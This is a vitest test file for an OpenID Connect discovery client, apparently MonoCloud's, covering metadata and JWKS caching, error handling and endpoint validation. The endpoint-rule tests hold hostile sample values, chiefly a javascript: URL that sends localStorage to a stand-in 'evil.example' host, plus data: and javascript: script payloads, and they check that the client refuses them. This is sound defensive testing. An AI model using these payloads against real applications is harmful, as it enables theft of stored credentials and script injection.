import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as TestClock from "effect/testing/TestClock"
import * as DiscoveryLayers from "../../src/services/Discovery.js"
import { Discovery } from "../../src/services/Discovery.js"
import * as DocumentCache from "../../src/services/DocumentCache.js"
import { MemoryStorage } from "../../src/storage.js"
import { engineLayer, scriptedServer } from "./support/engine.js"
import { failsWith } from "./support/failures.js"

const discoveryOf = (server: Parameters<typeof engineLayer>[0], overrides: Parameters<typeof engineLayer>[1] = {}) =>
  Discovery.pipe(Effect.provide(engineLayer(server, overrides)))

describe("Discovery", () => {
  it.effect("fetches the metadata once from the well-known URL and serves it from the cache", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      const discovery = yield* discoveryOf(server)
      const first = yield* discovery.metadata
      const second = yield* discovery.metadata
      expect(first.issuer).toBe(server.issuer)
      expect(first.token_endpoint).toBe(`${server.issuer}/token`)
      expect(second).toBe(first)
      const requests = server.requestsTo("discovery")
      expect(requests).toHaveLength(1)
      expect(requests[0]?.url.href).toBe(`${server.issuer}/.well-known/openid-configuration`)
      expect(requests[0]?.method).toBe("GET")
    })
  )

  it.effect("keeps unknown metadata members", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer({ metadata: { x_custom: "kept" } })
      const metadata = yield* (yield* discoveryOf(server)).metadata
      expect(metadata["x_custom"]).toBe("kept")
    })
  )

  it.effect("fetches the metadata again once metadataCacheDuration has passed", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      const discovery = yield* discoveryOf(server, { metadataCacheDuration: 60 })
      yield* discovery.metadata
      yield* TestClock.adjust("59 seconds")
      yield* discovery.metadata
      expect(server.requestsTo("discovery")).toHaveLength(1)
      yield* TestClock.adjust("1 seconds")
      yield* discovery.metadata
      expect(server.requestsTo("discovery")).toHaveLength(2)
      yield* discovery.metadata
      expect(server.requestsTo("discovery")).toHaveLength(2)
    })
  )

  it.effect("does not cache a failure: the next call asks again", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { status: 503, body: "unavailable" })
      const discovery = yield* discoveryOf(server)
      const error = yield* failsWith(discovery.metadata, "MonoCloudHttpError")
      expect(error.reason).toBe("StatusCode")
      expect(error.endpoint).toBe("discovery")
      expect(error.status).toBe(503)
      const metadata = yield* discovery.metadata
      expect(metadata.issuer).toBe(server.issuer)
      expect(server.requestsTo("discovery")).toHaveLength(2)
      server.verify()
    })
  )

  it.effect("fails with ValidationError discovery when the metadata names another issuer, and does not cache it", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { json: { ...server.metadata, issuer: "https://evil.example.test" } })
      const discovery = yield* discoveryOf(server)
      const error = yield* failsWith(discovery.metadata, "MonoCloudValidationError")
      expect(error.reason).toBe("discovery")
      expect((yield* discovery.metadata).issuer).toBe(server.issuer)
      expect(server.requestsTo("discovery")).toHaveLength(2)
    })
  )

  it.effect("fails with ValidationError discovery for an issuer that differs only by a trailing slash", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { json: { ...server.metadata, issuer: `${server.issuer}/` } })
      const error = yield* failsWith((yield* discoveryOf(server)).metadata, "MonoCloudValidationError")
      expect(error.reason).toBe("discovery")
    })
  )

  it.effect("fails with HttpError Decode when token_endpoint is missing", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { json: { ...server.metadata, token_endpoint: undefined } })
      const error = yield* failsWith((yield* discoveryOf(server)).metadata, "MonoCloudHttpError")
      expect(error.reason).toBe("Decode")
      expect(error.endpoint).toBe("discovery")
    })
  )

  it.effect("fails with HttpError Decode when an endpoint is not a URL", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { json: { ...server.metadata, userinfo_endpoint: "not a url" } })
      const error = yield* failsWith((yield* discoveryOf(server)).metadata, "MonoCloudHttpError")
      expect(error.reason).toBe("Decode")
    })
  )

  it.effect("fails with HttpError Decode when the document is not JSON", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("discovery", { body: "<html>login</html>" })
      const error = yield* failsWith((yield* discoveryOf(server)).metadata, "MonoCloudHttpError")
      expect(error.reason).toBe("Decode")
    })
  )

  it.effect(
    "reads no OAuth error body from the discovery endpoint, which defines none: a 4xx is a StatusCode error",
    () =>
      Effect.gen(function* () {
        const server = yield* scriptedServer()
        server.expect("discovery", server.oauthError("invalid_request", "no", 404))
        const error = yield* failsWith((yield* discoveryOf(server)).metadata, "MonoCloudHttpError")
        expect(error.reason).toBe("StatusCode")
        expect(error.status).toBe(404)
      })
  )

  it.effect("fetches the JWKS from jwks_uri, caches it, and fetches again with forceRefresh", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer({ metadata: { jwks_uri: "https://keys.example.test/certs" } })
      const discovery = yield* discoveryOf(server, { allowedEndpointOrigins: ["https://keys.example.test/"] })
      const first = yield* discovery.jwks({ forceRefresh: false })
      expect(first.keys.map((key) => key["kid"])).toEqual([server.minter.currentKid])
      const jwksRequests = server.requestsTo("jwks")
      expect(jwksRequests).toHaveLength(1)
      expect(jwksRequests[0]?.url.href).toBe("https://keys.example.test/certs")
      yield* discovery.jwks({ forceRefresh: false })
      expect(server.requestsTo("jwks")).toHaveLength(1)
      yield* Effect.promise(() => server.minter.rotate())
      const refreshed = yield* discovery.jwks({ forceRefresh: true })
      expect(server.requestsTo("jwks")).toHaveLength(2)
      expect(refreshed.keys.map((key) => key["kid"])).toEqual([server.minter.currentKid])
      expect(refreshed.keys[0]?.["kid"]).not.toBe(first.keys[0]?.["kid"])
      // the refreshed set replaced the cached one
      expect(yield* discovery.jwks({ forceRefresh: false })).toBe(refreshed)
      expect(server.requestsTo("jwks")).toHaveLength(2)
      expect(server.requestsTo("discovery")).toHaveLength(1)
    })
  )

  it.effect("fetches the JWKS again once jwksCacheDuration has passed", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      const discovery = yield* discoveryOf(server, { jwksCacheDuration: 10 })
      yield* discovery.jwks({ forceRefresh: false })
      yield* TestClock.adjust("10 seconds")
      yield* discovery.jwks({ forceRefresh: false })
      expect(server.requestsTo("jwks")).toHaveLength(2)
    })
  )

  it.effect("fails with HttpError Decode for a key set whose keys have no kty", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      server.expect("jwks", { json: { keys: [{ kid: "k" }] } })
      const error = yield* failsWith((yield* discoveryOf(server)).jwks({ forceRefresh: false }), "MonoCloudHttpError")
      expect(error.reason).toBe("Decode")
      expect(error.endpoint).toBe("jwks")
    })
  )

  describe("endpoint rules", () => {
    const refusal = (metadata: Record<string, unknown>, overrides: Parameters<typeof engineLayer>[1] = {}) =>
      Effect.gen(function* () {
        const server = yield* scriptedServer({ metadata })
        return yield* failsWith((yield* discoveryOf(server, overrides)).metadata, "MonoCloudValidationError")
      })

    it.effect("refuses an endpoint that is not an https URL, naming the member", () =>
      Effect.gen(function* () {
        for (const [member, value] of [
          ["authorization_endpoint", "javascript:fetch('https://evil.example/?'+localStorage)"],
          ["end_session_endpoint", "data:text/html,<script>alert(1)</script>"],
          ["token_endpoint", "http://op.example.test/token"],
          ["jwks_uri", "http://op.example.test/jwks"],
          ["userinfo_endpoint", "ftp://op.example.test/userinfo"],
          ["revocation_endpoint", "http://op.example.test/revoke"]
        ] as const) {
          const error = yield* refusal({ [member]: value })
          expect(error.reason).toBe("discovery")
          expect(error.message).toContain(member)
          expect(error.message).toContain("https")
        }
      })
    )

    it.effect("refuses an endpoint on another origin unless allowedEndpointOrigins lists it", () =>
      Effect.gen(function* () {
        const elsewhere = { token_endpoint: "https://collector.example/token" }
        const error = yield* refusal(elsewhere)
        expect(error.reason).toBe("discovery")
        expect(error.message).toContain("token_endpoint")
        expect(error.message).toContain("origin")
        const server = yield* scriptedServer({ metadata: elsewhere })
        const allowed = yield* discoveryOf(server, { allowedEndpointOrigins: ["https://collector.example"] })
        expect((yield* allowed.metadata).token_endpoint).toBe("https://collector.example/token")
      })
    )

    it.effect("accepts plain http endpoints only under a local http issuer", () =>
      Effect.gen(function* () {
        const server = yield* scriptedServer({ issuer: "http://localhost:3001" })
        expect((yield* (yield* discoveryOf(server)).metadata).token_endpoint).toBe("http://localhost:3001/token")
      })
    )
  })
})

describe("Discovery with a document cache (the next page load)", () => {
  /** One page of the app: the engine over `server`, its documents kept in `kept` (a fresh Discovery, not the engine's). */
  const pageOf = (server: Parameters<typeof engineLayer>[0], kept: MemoryStorage) =>
    Discovery.pipe(
      Effect.provide(
        Layer.provide(Layer.fresh(DiscoveryLayers.layer), Layer.merge(engineLayer(server), DocumentCache.layer(kept)))
      )
    )

  it.effect("a second page load takes metadata and keys from the cache while they are fresh", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      const kept = new MemoryStorage()
      const first = yield* pageOf(server, kept)
      yield* first.jwks({ forceRefresh: false })
      expect([server.requestsTo("discovery").length, server.requestsTo("jwks").length]).toEqual([1, 1])
      const second = yield* pageOf(server, kept)
      expect((yield* second.metadata).issuer).toBe(server.issuer)
      expect((yield* second.jwks({ forceRefresh: false })).keys).toHaveLength(1)
      expect([server.requestsTo("discovery").length, server.requestsTo("jwks").length]).toEqual([1, 1])
      // an unknown key id asks the provider itself, not the kept copy
      yield* second.jwks({ forceRefresh: true })
      expect(server.requestsTo("jwks")).toHaveLength(2)
      // once the kept copies expired, a new page fetches them again
      yield* TestClock.adjust("301 seconds")
      yield* (yield* pageOf(server, kept)).jwks({ forceRefresh: false })
      expect([server.requestsTo("discovery").length, server.requestsTo("jwks").length]).toEqual([2, 3])
    })
  )

  it.effect("a kept copy is checked like an answer: garbage or a hostile endpoint is ignored and fetched anew", () =>
    Effect.gen(function* () {
      const server = yield* scriptedServer()
      const kept = new MemoryStorage()
      const key = `mc.discovery.${server.issuer}`
      const hostile = { ...server.metadata, authorization_endpoint: "javascript:alert(1)" }
      for (const planted of ["{not json", JSON.stringify({ expiresAt: 1e15, value: hostile })]) {
        yield* Effect.promise(() => kept.setItem(key, planted))
        const metadata = yield* (yield* pageOf(server, kept)).metadata
        expect(metadata.authorization_endpoint).toBe(server.metadata["authorization_endpoint"])
      }
      expect(server.requestsTo("discovery")).toHaveLength(2)
      expect(JSON.parse((yield* Effect.promise(() => kept.getItem(key)))!).value.authorization_endpoint).toBe(
        server.metadata["authorization_endpoint"]
      )
    })
  )
})
